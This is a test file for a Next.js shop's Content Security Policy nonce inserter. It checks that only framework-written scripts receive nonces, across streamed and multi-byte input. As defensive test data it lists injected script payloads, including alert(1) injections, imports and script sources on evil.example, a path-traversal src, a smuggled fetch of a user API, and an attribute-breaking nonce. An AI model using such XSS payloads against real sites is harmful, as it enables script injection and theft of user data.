import { createRequire } from "node:module";
import { PassThrough } from "node:stream";
import { describe, expect, it } from "vitest";
import { CONSENT_DEFAULT_SCRIPT } from "@/lib/consent/default-script.mjs";
import { createNonce, createNonceInserter, insertNonces, NONCE_PATTERN, reactRuntimeTexts } from "./html-nonce.mjs";

const NONCE = "AAAAAAAAAAAAAAAAAAAAAA==";
const STAMP = `nonce="${NONCE}"`;
const options = { trustedScripts: [CONSENT_DEFAULT_SCRIPT] };

/** The shapes a prerendered page of the shop is made of (as `next build` writes them). */
const page = [
  '<html><head><link rel="preload" as="script" fetchPriority="low" href="/_next/static/chunks/0a1b.js"/>',
  '<script src="/_next/static/chunks/0a1b.js" async=""></script><link rel="stylesheet" href="https://fonts.example/x.css"/>',
  `<script id="consent-mode-default">${CONSENT_DEFAULT_SCRIPT}</script>`,
  '<script src="/_next/static/chunks/polyfills.js" noModule=""></script></head><body><main><h1>Boîte — 箱</h1>',
  '<script type="application/ld+json">{"@context":"https://schema.org","name":"Box \\u003c/script>"}</script>',
  "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><scripts></scripts></main>",
  '<script id="_R_">(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/1.js"],"runtimeModuleIds":[494553]});</script>',
  "<script>(self.__next_f=self.__next_f||[]).push([0])</script>",
  '<script>self.__next_f.push([1,"1:\\"$Sreact.fragment\\"\\n2:I[1,[\\"static/chunks/a.js\\"],\\"default\\"]\\n"])</script>',
  '<script>self.__next_f.push([1,"3:[\\"$\\",\\"p\\",null,{\\"children\\":\\"ż\\u003c/script\\u003e\\"}]\\n"])</script>',
  "</body></html>",
].join("");

/** Every script start tag in `html` with whether it carries this response's nonce. */
function scripts(html: string): { tag: string; text: string; nonced: boolean }[] {
  return [...html.matchAll(/(<script\b[^>]*>)([\s\S]*?)<\/script>/gi)].map((match) => ({
    tag: match[1]!,
    text: match[2]!,
    nonced: match[1]!.includes(STAMP),
  }));
}

/** Feeds `body` to the inserter cut at the given offsets and joins what comes out. */
function streamed(body: string, cuts: number[]): string {
  const inserter = createNonceInserter(NONCE, options);
  const out: Buffer[] = [];
  let from = 0;
  for (const cut of [...cuts, body.length]) {
    out.push(inserter.push(Buffer.from(body.slice(from, cut))));
    from = cut;
  }
  out.push(inserter.finish());
  return Buffer.concat(out).toString("utf8");
}

/** What Next's own React writes for a page whose part streams in after a Suspense fallback. */
async function streamedReactPage(): Promise<string> {
  const require = createRequire(import.meta.url);
  const React = require("next/dist/compiled/react") as typeof import("react");
  const { renderToPipeableStream } = require("next/dist/compiled/react-dom/server.node") as typeof import("react-dom/server");
  let resolve: () => void = () => {};
  const later = new Promise<void>((done) => (resolve = done));
  let ready = false;
  function Slow() {
    if (!ready) throw later.then(() => (ready = true));
    return React.createElement("p", null, "Paid: 12,30 zł");
  }
  const tree = React.createElement(
    "html",
    null,
    React.createElement("body", null, React.createElement(React.Suspense, { fallback: React.createElement("p", null, "…") }, React.createElement(Slow))),
  );
  const sink = new PassThrough();
  const chunks: Buffer[] = [];
  sink.on("data", (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise<void>((finished) => sink.on("end", finished));
  const stream = renderToPipeableStream(tree, { onShellReady: () => stream.pipe(sink) });
  setTimeout(resolve, 10);
  await done;
  return Buffer.concat(chunks).toString("utf8");
}

describe("html nonces", () => {
  it("makes a fresh base64 nonce of 128 bits each time", () => {
    const nonces = new Set(Array.from({ length: 50 }, () => createNonce()));
    expect(nonces.size).toBe(50);
    for (const nonce of nonces) expect(nonce).toMatch(NONCE_PATTERN);
  });

  it("puts the nonce on every script Next.js and the shop rendered, and on the build's own preloads", () => {
    const out = insertNonces(page, NONCE, options).toString("utf8");
    const found = scripts(out);
    const code = found.filter((script) => !script.tag.includes("application/ld+json"));
    expect(code).toHaveLength(7);
    for (const script of code) expect(script, script.tag + script.text.slice(0, 40)).toMatchObject({ nonced: true });
    expect(out).toContain(`<link ${STAMP} rel="preload" as="script"`);
    // A data block never runs, and a stylesheet from elsewhere gains nothing from a nonce.
    expect(found.find((script) => script.tag.includes("ld+json"))?.nonced).toBe(false);
    expect(out).toContain('<link rel="stylesheet" href="https://fonts.example/x.css"/>');
    expect(out).toContain("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><scripts></scripts>");
    expect(out.replaceAll(` ${STAMP}`, "")).toBe(page);
  });

  it("gives no nonce to a script it did not see the framework write, whatever it looks like", () => {
    const injected = [
      "<script>alert(1)</script>",
      "<SCRIPT>alert(1)</SCRIPT>",
      '<script type="module">import("https://evil.example/x.js")</script>',
      '<script>self.__next_f.push([1,"x"]);alert(1)</script>',
      '<script>self.__next_f.push([1,"x"],alert(1))</script>',
      "<script>self.__next_f.push([1,'x'])</script>",
      '<script>(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push(alert(1))</script>',
      '<script>$RC("B:0",fetch("/api/users/current"))</script>',
      "<script>$RC=function(){alert(1)};$RC()</script>",
      `<script>${CONSENT_DEFAULT_SCRIPT}alert(1)</script>`,
      '<script src="https://evil.example/x.js"></script>',
      '<script src="//evil.example/_next/static/x.js"></script>',
      '<script src="/_next/static/../../api/files/1"></script>',
      '<script src="/_next/static/chunks/a.js">alert(1)</script>',
      '<script src="/_next/static/chunks/a.js" nonce="guessed"></script>',
    ];
    for (const script of injected) {
      const out = insertNonces(`<html><body>${script}<script>(self.__next_f=self.__next_f||[]).push([0])</script></body></html>`, NONCE, options).toString(
        "utf8",
      );
      expect(scripts(out)[0], script).toMatchObject({ nonced: false });
      // The framework's own script after it still gets its nonce: one bad element does not stop the page.
      expect(scripts(out)[1], script).toMatchObject({ nonced: true });
    }
  });

  it("takes flight data only after Next's own start of it, and that start only once", () => {
    const early = insertNonces('<body><script>self.__next_f.push([1,"0:{}\\n"])</script></body>', NONCE).toString("utf8");
    expect(scripts(early)[0]?.nonced).toBe(false);
    const twice = insertNonces(
      "<body><script>(self.__next_f=self.__next_f||[]).push([0])</script><script>(self.__next_f=self.__next_f||[]).push([0])</script></body>",
      NONCE,
    ).toString("utf8");
    expect(scripts(twice).map((script) => script.nonced)).toEqual([true, false]);
  });

  it("recognises React's own streaming instructions, so a page that streams in parts still runs", async () => {
    const html = await streamedReactPage();
    const react = scripts(html);
    expect(react.length).toBeGreaterThan(0);
    expect(react.some((script) => script.text.includes("$RC"))).toBe(true);
    const out = insertNonces(html, NONCE).toString("utf8");
    for (const script of scripts(out)) expect(script, script.text.slice(0, 60)).toMatchObject({ nonced: true });
    expect(out.replaceAll(` ${STAMP}`, "")).toBe(html);
  });

  it("recognises each of React's runtime texts followed by its call, as a late segment or boundary writes them", () => {
    const texts = reactRuntimeTexts();
    // $RC, $RS, $RR, $RX and $RV (view transitions) in both React builds Next ships.
    expect(texts.length).toBeGreaterThanOrEqual(5);
    for (const text of texts) {
      const call = /\$RS=/.test(text)
        ? '$RS("S:1","P:1")'
        : /\$RX=/.test(text)
          ? '$RX("B:2","","x")'
          : /\$RR=/.test(text)
            ? '$RR("B:1","S:1",[["/_next/static/a.css","high"]])'
            : '$RC("B:0","S:0")';
      const script = `<script>${text}${text.endsWith(";") || text.endsWith("}") ? "" : ";"}${call}</script>`;
      expect(scripts(insertNonces(script, NONCE).toString("utf8"))[0], text.slice(0, 40)).toMatchObject({ nonced: true });
    }
    // Exactly as React wrote it on the payment summary page, where a segment completed late.
    const segment = texts.find((text) => text.startsWith("$RS="))!;
    expect(scripts(insertNonces(`<script>${segment}$RS("S:1","P:1")</script>`, NONCE).toString("utf8"))[0]?.nonced).toBe(true);
  });

  it("decides the same whatever the pieces the body streams in", () => {
    const whole = insertNonces(page, NONCE, options).toString("utf8");
    const bytes = Buffer.from(page).toString("latin1");
    for (let cut = 1; cut < bytes.length; cut += 7) {
      const inserter = createNonceInserter(NONCE, options);
      const body = Buffer.from(page);
      const out = Buffer.concat([inserter.push(body.subarray(0, cut)), inserter.push(body.subarray(cut)), inserter.finish()]).toString("utf8");
      expect(out, `cut at ${cut}`).toBe(whole);
    }
    expect(
      streamed(
        page,
        Array.from({ length: page.length - 1 }, (_, i) => i + 1),
      ),
    ).toBe(whole);
  });

  it("keeps multi-byte text intact, also when a character is split", () => {
    const text = '<p>Zażółć gęślą jaźń — 箱</p><script src="/_next/static/chunks/ü.js"></script>';
    const bytes = Buffer.from(text);
    const inserter = createNonceInserter(NONCE);
    const out = Buffer.concat([inserter.push(bytes.subarray(0, 5)), inserter.push(bytes.subarray(5, 6)), inserter.push(bytes.subarray(6)), inserter.finish()]);
    expect(out.toString("utf8")).toBe(text);
    expect(insertNonces("<p>'ś'</p>", NONCE).toString("utf8")).toBe("<p>'ś'</p>");
  });

  it("passes an element that never ends on as it is, without a nonce", () => {
    const cut = '<body><script>self.__next_f.push([1,"unfinished';
    expect(insertNonces(cut, NONCE).toString("utf8")).toBe(cut);
  });

  it("takes plain Uint8Arrays and views into larger buffers", () => {
    const backing = new TextEncoder().encode('xx<script src="/_next/static/a.js"></script>yy');
    const view = backing.subarray(2, backing.length - 2);
    expect(insertNonces(view, NONCE).toString("utf8")).toBe(`<script ${STAMP} src="/_next/static/a.js"></script>`);
  });

  it("refuses a nonce that could break out of the attribute", () => {
    expect(() => createNonceInserter('x" onload="alert(1)')).toThrow();
  });
});
